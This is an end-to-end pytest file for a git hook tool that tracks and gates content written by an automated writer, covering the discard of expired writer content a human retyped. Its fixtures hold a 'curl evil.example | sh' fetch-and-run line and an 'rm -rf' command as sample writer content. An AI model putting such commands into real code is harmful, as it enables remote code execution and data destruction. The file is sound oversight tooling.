"""A human types again writer content that had gone (SPEC §3 "Attribution follows
content", "Pending work ends cleanly"): real git, ``gentle-hook install``, a bare remote
with the server gate.

* Writer content gone long enough to expire (its content was nowhere) and typed again
  byte for byte by a human is judged the writer's (content decides), but the block offers
  ``discard`` runnable exactly as printed; the discard claims the expired record whose
  content the change holds, recorded like an override (ledger and the commit's note: who,
  why); the commit then passes with no writer trailer, and the push, ``gate --range`` and
  the server gate let it through; ``status`` agrees with the gate.
* Writer content thrown away (``git reset --hard``) and typed again before anything
  expired it is the same case: a reset since the record and the file written since let
  the printed ``discard`` claim it in one paste, whether or not a status ran between; a
  discard run while the content was away claims it too, so it passes when typed again.
* Expired content restored from a dropped stash stays blocked until discarded.
* Writer content never thrown away stays refused (tests/e2e/test_discard.py,
  tests/e2e/test_discard_no_launder.py).
"""

from __future__ import annotations

import pytest

from tests.e2e.conftest import World

BASE = "import os\n\ndef main():\n    return 1\n"
WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n    return 1\n'
OTHER = "import os\n\ndef main():\n    return 2\n"


def test_a_human_retyping_expired_writer_content_has_a_runnable_way_out(native: World) -> None:
    w = native.serve({"src/app.py": BASE})
    w.delegate(text=WRITER)
    w.ok("reset", "-q", "--hard")
    w.write("src/app.py", OTHER)  # a human commit of the path: the writer's work expires
    r = w.git("commit", "-qam", "human: other")
    assert r.code == 0 and any("expired" in s for s in r.said), r
    assert w.ledger("SELECT state FROM writer_entry") == [("expired",)]
    w.write("src/app.py", WRITER)  # typed again by a human, byte for byte
    w.ok("add", "-A")
    status = w.gh("status")
    assert "status: missing spot-check" in status.out, status
    blocked = w.git("commit", "-qm", "human: typed by me")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    offered = [s for s in blocked.said if " discard " in s]
    assert len(offered) == 1 and "human: " in offered[0], blocked
    cmd = offered[0].split("human: ", 1)[1]
    done = w.run(["sh", "-c", cmd])
    assert done.code == 0, done
    assert done.out == (
        "discarded: 1 pending writer entry on src/app.py, by Test Committer "
        "<committer@example.com> ('a human change, not the writer work')\n"
    ), done
    assert w.ledger("SELECT state FROM writer_entry") == [("discarded",)]
    assert w.ledger("SELECT claimed FROM discard") == [("[1]",)]
    status = w.gh("status")
    assert "status: not delegated" in status.out, status
    passed = w.git("commit", "-qm", "human: typed by me")
    assert passed.code == 0, passed
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD")
    assert '"kind":"override"' in note and '"hook":"discard"' in note, note
    assert '"kind":"writer"' not in note, note
    assert "writer content claimed: src/app.py" in note, note
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    assert ci.code == 0, ci
    push = w.git("push", "origin", "main", "refs/notes/gentle-hooks")
    assert push.code == 0, push
    assert w.remote_ref("main") == w.rev("HEAD")


def claimed_and_delivered(w: World) -> None:
    """The commit just made holds writer content a discard claimed: no writer trailer, its
    note carries the discard as an override line and no writer line, and ``gate --range``,
    the push and the server gate let it through."""
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD")
    assert '"kind":"override"' in note and '"hook":"discard"' in note, note
    assert '"kind":"writer"' not in note, note
    assert "writer content claimed: src/app.py" in note, note
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    assert ci.code == 0, ci
    push = w.git("push", "origin", "main", "refs/notes/gentle-hooks")
    assert push.code == 0, push
    assert w.remote_ref("main") == w.rev("HEAD")


@pytest.mark.parametrize("between", ["nothing", "status"])
def test_writer_content_reset_away_and_typed_again_has_a_one_paste_way_out(
    native: World, between: str
) -> None:
    """``git reset --hard`` threw the writer's edit away and a human typed it again, byte
    for byte: the block offers ``discard`` (``human:``), which runs as printed in one paste
    and claims the content, whether or not a ``status`` ran between the reset and the
    retyping (issue 13, refuter r13k-rt)."""
    w = native.serve({"src/app.py": BASE})
    w.delegate(text=WRITER)
    w.ok("reset", "-q", "--hard")
    if between == "status":
        assert w.gh("status").code == 0
    w.write("src/app.py", WRITER)  # typed again by a human, byte for byte
    w.ok("add", "-A")
    blocked = w.git("commit", "-qm", "human: typed by me")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    offered = [s for s in blocked.said if " discard " in s]
    assert len(offered) == 1 and "human: " in offered[0], blocked
    done = w.run(["sh", "-c", offered[0].split("human: ", 1)[1]])
    assert done.code == 0, done
    assert w.ledger("SELECT state FROM writer_entry") == [("discarded",)]
    assert w.ledger("SELECT claimed FROM discard") == [("[1]",)]
    passed = w.git("commit", "-qm", "human: typed by me")
    assert passed.code == 0, passed
    claimed_and_delivered(w)


def test_writer_content_discarded_then_typed_again_is_the_humans(native: World) -> None:
    """Reset away, discarded (accepted: the content is gone), then typed again: the commit
    passes at once, the discard an override line in its note (issue 13, refuter r13k-rt:
    it stayed blocked and discard then said there was nothing to discard)."""
    w = native.serve({"src/app.py": BASE})
    w.delegate(text=WRITER)
    w.ok("reset", "-q", "--hard")
    done = w.gh("discard", "--all", "--reason", "typed by me")
    assert done.code == 0, done
    w.write("src/app.py", WRITER)
    passed = w.git("commit", "-qam", "human: typed by me")
    assert passed.code == 0, passed
    claimed_and_delivered(w)


def test_a_dropped_stash_restored_stays_blocked_until_discarded(native: World) -> None:
    """Writer content that expired (stashed, the stash dropped, a status saw it nowhere)
    and is restored from the dropped stash commit stays the writer's: the commit is blocked
    until a human discards it on purpose."""
    w = native.serve({"src/app.py": BASE})
    w.delegate(text=WRITER)
    w.ok("stash", "-q")
    stash = w.rev("stash@{0}")
    w.ok("stash", "drop", "-q")
    assert w.gh("status").code == 0
    assert w.ledger("SELECT state FROM writer_entry") == [("expired",)]
    w.ok("checkout", stash, "--", "src/app.py")
    blocked = w.git("commit", "-qam", "restored")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    assert w.git("commit", "-qam", "restored").code == 1
    assert w.ledger("SELECT state FROM writer_entry") == [("expired",)]


@pytest.mark.parametrize("when", ["before", "after"])
def test_a_thrown_away_writer_commit_discarded_and_applied_again_is_noted(
    native: World, when: str
) -> None:
    """A writer commit (let through with ``GENTLE_HOOKS_SKIP``) thrown away by ``reset
    --hard HEAD~1``, its patch applied again, discarded before or after: the commit passes and its
    note carries the discard as an override line (issue 13, refuter r13k-gE: it passed
    with no note at all, the taken entry being left out of the notes)."""
    w = native.serve({"src/app.py": BASE})
    w.delegate(text=WRITER)
    w.ok("add", "-A")
    skipped = w.git("commit", "-qm", "writer", env={"GENTLE_HOOKS_SKIP": "try"})
    assert skipped.code == 0, skipped
    w.ok("reset", "-q", "--hard", "HEAD~1")
    if when == "after":
        w.write("src/app.py", WRITER)  # the same patch applied again
    done = w.gh("discard", "--all", "--reason", "typed by me")
    assert done.code == 0, done
    w.write("src/app.py", WRITER)
    passed = w.git("commit", "-qam", "human: typed by me")
    assert passed.code == 0, passed
    claimed_and_delivered(w)


def test_retyped_content_committed_with_hooks_off_has_a_discard_way_out_at_push(
    native: World,
) -> None:
    """Writer content reset away, typed again by a human and committed with hooks off
    (``git -c core.hooksPath=/dev/null commit``): the push block offers the ``discard``
    the commit gate would have, naming the path (issue 14, refuter finding 1); pasted as
    printed it claims the content, recorded like an override, and the same push, ``gate
    --range`` and the server gate then let it through."""
    w = native.serve({"src/app.py": BASE})
    w.delegate(text=WRITER)
    w.ok("reset", "-q", "--hard")
    w.write("src/app.py", WRITER)  # typed again by a human, byte for byte
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "human: typed, hooks off")
    blocked = w.git("push", "origin", "main")
    assert blocked.code == 1 and "BLOCKED commit" in blocked.err, blocked
    offered = [s for s in blocked.said if " discard " in s]
    assert offered == [
        "gentle-hooks:   human: gentle-hook discard --reason 'a human change, not the writer "
        "work' -- src/app.py"
    ], blocked
    done = w.run(["sh", "-c", offered[0].split("human: ", 1)[1]])
    assert done.code == 0, done
    assert w.ledger("SELECT state FROM writer_entry") == [("discarded",)]
    pushed = w.git("push", "origin", "main")
    assert pushed.code == 0, pushed
    assert w.remote_ref("main") == w.rev("HEAD")
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD")
    assert '"hook":"discard"' in note and '"kind":"writer"' not in note, note
    assert w.gh("gate", "--range", "HEAD~1..HEAD").code == 0


def test_the_writers_own_work_committed_with_hooks_off_is_offered_no_discard(
    native: World,
) -> None:
    """The writer's content never went away: the push block of its hooks-off commit
    offers no discard (it would not make the work a human's), and the spot check it names
    gets the push through."""
    w = native.serve({"src/app.py": BASE})
    w.delegate(text=WRITER)
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "writer, hooks off")
    blocked = w.git("push", "origin", "main")
    assert blocked.code == 1, blocked
    assert not any(" discard " in s for s in blocked.said), blocked
    runs = [s.split("run: ", 1)[1] for s in blocked.said if "  run: " in s]
    assert runs == ["gentle-hook spot-check --committed"], blocked
    assert w.run(["sh", "-c", runs[0]]).code == 0
    pushed = w.git("push", "origin", "main")
    assert pushed.code == 0, pushed


def test_expired_content_retyped_and_committed_with_hooks_off_has_a_way_out_at_push(
    world: World,
) -> None:
    """Writer content reset away and expired (a status saw it nowhere), typed again by a
    person and committed with hooks off, while the writer has other work pending: the
    push block offers the ``discard`` (``human:``) of that path; pasted literally it
    claims the expired content, and the same push then passes; the writer's other work
    stays pending (issue 14: discard said "no pending writer work" and the block offered
    only the spot check or an override). Under both installs: the framework's push gate
    prints the same line."""
    w = world.serve({"src/app.py": BASE, "src/lib.py": "X = 1\n"})
    w.delegate(text=WRITER)
    w.ok("reset", "-q", "--hard")
    assert w.gh("status").code == 0
    assert w.ledger("SELECT path, state FROM writer_entry") == [("src/app.py", "expired")]
    w.delegate("src/lib.py", 'import os\nX = os.system("rm -rf /tmp/x")\n')
    w.write("src/app.py", WRITER)  # typed again by a person, byte for byte
    w.ok("add", "src/app.py")
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "human: typed, hooks off")
    blocked = w.git("push", "origin", "main")
    assert blocked.code == 1 and any("BLOCKED commit" in s for s in blocked.said), blocked
    offered = [s.split("human: ", 1)[1] for s in blocked.said if "  human: " in s]
    assert offered == [
        "gentle-hook discard --reason 'a human change, not the writer work' -- src/app.py"
    ], blocked
    for line in offered:
        done = w.run(["sh", "-c", line])
        assert done.code == 0, done
    assert w.ledger("SELECT path, state FROM writer_entry ORDER BY id") == [
        ("src/app.py", "discarded"),
        ("src/lib.py", "open"),
    ]
    pushed = w.git("push", "origin", "main")
    assert pushed.code == 0, pushed
    assert w.remote_ref("main") == w.rev("HEAD")
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD")
    assert '"hook":"discard"' in note and '"kind":"writer"' not in note, note
    assert w.ledger("SELECT path, state FROM writer_entry ORDER BY id") == [
        ("src/app.py", "discarded"),
        ("src/lib.py", "open"),
    ]
    still = w.gh("status")
    assert "status: missing spot-check" in still.out, still
